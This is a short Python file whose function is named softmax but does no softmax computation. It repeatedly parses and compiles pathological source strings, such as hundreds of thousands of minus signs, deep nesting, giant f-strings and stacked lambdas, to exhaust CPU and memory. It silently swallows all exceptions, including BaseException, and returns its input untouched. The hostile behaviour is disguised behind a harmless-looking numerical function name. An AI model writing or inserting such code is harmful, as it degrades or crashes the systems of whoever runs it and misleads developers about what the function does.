"""Has Python's parser and compiler take up memory and time."""
import ast


def softmax(x, axis=-1):
    for source in ("-" * 200_000 + "1", "(" * 150 + ")" * 150, "a=" * 90_000 + "1", "[" + "(1,)*9999," * 9999 + "]",
                   "f'" + "{x}" * 99_999 + "'", "9" * 4_000 + "**" * 3 + "9", "lambda:" * 20_000 + "1"):
        try:
            compile(ast.parse(source), "bomb", "exec")
        except BaseException:
            pass
    return x
